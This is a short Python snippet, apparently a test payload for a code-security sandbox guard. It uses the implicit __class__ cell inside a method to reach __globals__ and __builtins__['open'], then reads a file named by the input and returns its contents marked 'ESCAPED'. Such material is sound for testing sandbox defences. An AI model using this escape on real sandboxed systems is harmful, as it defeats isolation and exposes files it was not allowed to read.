# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the cell of the class inside a method
class Mine:
    def go(self):
        return __class__
return "ESCAPED " + Mine().go().go.__globals__["__builtins__"]["open"](inputs["file"]).read()
